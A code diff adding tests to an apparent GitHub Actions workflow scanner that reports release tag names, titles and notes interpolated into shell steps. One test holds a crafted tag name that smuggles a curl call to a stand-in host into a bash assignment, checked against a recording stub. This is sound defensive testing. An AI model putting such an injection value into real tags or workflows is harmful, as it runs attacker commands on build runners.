@@ -3,6 +3,7 @@ issue title an attacker chose: the title's command runs (a stub records it)."""
 
 from __future__ import annotations
 
+import shutil
 import subprocess
 from pathlib import Path
 
@@ -74,3 +75,35 @@ def test_free_text_inputs_of_a_manual_run_are_information() -> None:
 def test_inputs_that_are_no_free_text_are_not_reported(expression: str) -> None:
     workflow = WORKFLOW.replace("on: issues\n", DISPATCH)
     assert found(workflow.replace("github.event.issue.title", expression)) == []
+
+
+RELEASE = ("on:\n  release:\n    types: [published]\njobs:\n  publish:\n"
+           "    runs-on: ubuntu-latest\n    steps:\n      - run: |\n"
+           "          TAG=\"${{ github.event.release.tag_name }}\"\n")
+
+
+def test_a_release_tag_is_a_writers_text_information(tmp_path: Path) -> None:
+    # A tag name may hold quotes, `;` and `$`: real git accepts this one, and real bash runs
+    # its command once the runner has pasted it in. Whoever can push it can also point it at
+    # a commit whose workflow runs anything: the value gives them nothing more.
+    tag = 'v1";curl${IFS}-s${IFS}x.example/p;#'
+    git = shutil.which("git")
+    if git is None:
+        pytest.skip("no git")
+    subprocess.run([git, "check-ref-format", f"refs/tags/{tag}"], check=True, timeout=30)
+    stubs = StubDir(tmp_path, names=["curl"])
+    script = tmp_path / "step.sh"
+    script.write_text(f'TAG="{tag}"\n')
+    subprocess.run(["bash", "-e", str(script)], env=stubs.env(), capture_output=True,
+                   timeout=30, check=True)
+    assert stubs.records() == [["curl", "-s", "x.example/p"]]
+    [(line, col, d)] = found(RELEASE)
+    assert (line, col, d.severity) == (9, 16, "info")
+    assert "push tags" in d.message.explanation or "push tags" in d.message.summary
+
+
+@pytest.mark.parametrize("expression", ["github.event.release.name",
+                                        "github.event.release.body"])
+def test_a_releases_title_and_notes_too(expression: str) -> None:
+    [(_, _, d)] = found(RELEASE.replace("github.event.release.tag_name", expression))
+    assert d.severity == "info"
